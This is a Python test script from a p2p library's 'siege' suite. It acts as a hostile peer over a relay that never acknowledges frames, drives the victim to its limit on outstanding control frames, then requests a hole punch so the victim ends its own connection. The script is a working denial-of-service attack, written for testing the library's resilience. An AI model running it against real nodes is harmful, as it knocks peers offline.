"""An attacker over a circuit, as a process of its own: a node that acknowledges nothing there.

    python -m tests.siege.provoker --relay MULTIADDR --victim PEER_ID

It has the victim owe it as many control frames as a connection keeps, and then asks for a hole
punch: the frame too many is one of the victim's own making, and comes of a command and not of a
packet.  It prints a JSON object when it has asked, and one when its connection is over.
"""

import argparse
import json
import sys
from typing import Any, ClassVar, Final

import trio

from p2pnode import open_node
from p2pnode.clock import Instant
from p2pnode.errors import ClosedByPeer, ConnectionLost
from p2pnode.io.node.node import Node
from p2pnode.machine import SocketAddr
from p2pnode.protocols import dcutr
from p2pnode.protocols.dcutr.messages import Connect, HolePunch, Sync, encode_hole_punch
from p2pnode.swarm.events import ConnectionClosed, SwarmEvent
from p2pnode.swarm.services.dcutr import DcutrService
from p2pnode.transports.datagrams.control_frames import MAX_OUTSTANDING
from p2pnode.transports.datagrams.frame import HandshakeDone, NewToken
from p2pnode.transports.delivery.ack_tracker import AckTracker
from p2pnode.transports.delivery.frame import Ack
from p2pnode.transports.noise_udp import endpoint
from p2pnode.transports.noise_udp.connection import Connection, Opening
from p2pnode.transports.noise_udp.frame import (
    Frame,
    MaxPathId,
    NewConnectionId,
    ObservedAddress,
    PathAbandon,
    RetireConnectionId,
)
from p2pnode.transports.noise_udp.path import Path
from p2pnode.transports.route import Route
from p2pnode.wire.framing import encode_frame
from tests.siege.payloads import SPARE_PATH
from tests.support.addresses import noise_udp_multiaddr

CONTROL_FRAMES: Final = (
    HandshakeDone,
    MaxPathId,
    NewConnectionId,
    NewToken,
    ObservedAddress,
    PathAbandon,
    RetireConnectionId,
)
"""Those that a connection sends until they are acknowledged."""
RETIRED_AT_ONCE: Final = 50
"""frames; they fit in one packet, so that none is overtaken: each names the id of the one before"""
PATIENCE: Final = 15.0
"""seconds for all of it; three or four where nothing else goes on, the most of it the start"""
BYSTANDER: Final = noise_udp_multiaddr(SocketAddr("99.1.1.1", 4001))
"""Where it claims to be: any address that a punch may try."""


class _NoAcks(AckTracker):
    """Remembers what came, and never has anything to say about it."""

    __slots__ = ()

    def on_packet(self, packet_number: int, is_ack_eliciting: bool, ecn: int, now: Instant) -> None:
        super().on_packet(packet_number, is_ack_eliciting=False, ecn=ecn, now=now)

    def on_immediate_ack(self, now: Instant) -> None:
        pass


class _Provoker(Connection):
    """Over a circuit it keeps count of what the victim has to send until it is acknowledged."""

    over_circuits: ClassVar[list["_Provoker"]] = []

    def __init__(self, opening: Opening, **parts: Any) -> None:
        super().__init__(opening, **parts)
        self.owed: set[bytes] = set()
        """The victim's control frames, each once however often it came."""
        self._all_acked = trio.Event()
        """The victim has every control frame of ours."""
        if opening.route.is_relayed:
            self.over_circuits.append(self)
            self.paths.active.acks = _NoAcks()

    def handle_frame(self, frame: Frame, path: Path, route: Route, now: Instant) -> None:
        if route.is_relayed and isinstance(frame, CONTROL_FRAMES):
            self.owed.add(frame.encode())
            if isinstance(frame, NewConnectionId) and frame.sequence > 0:
                return  # a replacement: an honest peer has room for a few
        super().handle_frame(frame, path, route, now)

    def _on_ack(self, frame: Ack, now: Instant) -> None:
        super()._on_ack(frame, now)
        if not self._control.outstanding:
            self._all_acked.set()

    async def provoke(self, node: Node) -> None:
        """Gives ids back, each of which is replaced by a frame, until as many as allowed are owed.

        Waits until the victim has taken them.  One more, and it would end the connection at once.
        """
        missing = MAX_OUTSTANDING - len(self.owed)
        for first in range(0, missing, RETIRED_AT_ONCE):
            self._all_acked = trio.Event()
            for sequence in range(first, min(first + RETIRED_AT_ONCE, missing)):
                self._control.push(RetireConnectionId(SPARE_PATH, sequence).encode())
            node.engine.wake()
            await self._all_acked.wait()


async def attack(relay: str, victim: str) -> None:
    """Raises trio.TooSlowError where the victim does not answer, or has ended it too early."""
    with trio.fail_after(PATIENCE):
        await _attack(relay, victim)


async def _attack(relay: str, victim: str) -> None:
    ended, is_over = list[ConnectionLost](), trio.Event()

    def note(event: SwarmEvent) -> None:
        if isinstance(event, ConnectionClosed) and str(event.peer_id) == victim:
            ended.append(event.reason)
            is_over.set()

    async with open_node(listen=()) as node:
        node.watch(note)
        await node.connect(relay)
        stream = await node.open_stream(f"{relay}/p2p-circuit/p2p/{victim}", dcutr.PROTOCOL_ID)
        await stream.wait_negotiated()
        (connection,) = _Provoker.over_circuits
        await connection.provoke(node)
        await stream.send_all(framed(Connect((BYSTANDER,))) + framed(Sync()))
        say("asked")
        await is_over.wait()
    (reason,) = ended
    if isinstance(reason, ClosedByPeer):
        say("over", code=reason.code, reason=reason.reason)
    else:
        say("over", code=None, reason=str(reason))


def framed(message: HolePunch) -> bytes:
    return encode_frame(encode_hole_punch(message))


def say(event: str, **fields: object) -> None:
    print(json.dumps({"event": event, **fields}), flush=True)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--relay", required=True)
    parser.add_argument("--victim", required=True)
    parser.add_argument("--json", action="store_true", help="as it prints in any case")
    options = parser.parse_args()
    endpoint.Connection = _Provoker  # type: ignore[attr-defined]
    # The victim begins a round too, which would bring its frame too early.
    DcutrService.accept = lambda *_: None  # type: ignore[method-assign]
    trio.run(attack, options.relay, options.victim)
    return 0


if __name__ == "__main__":
    sys.exit(main())
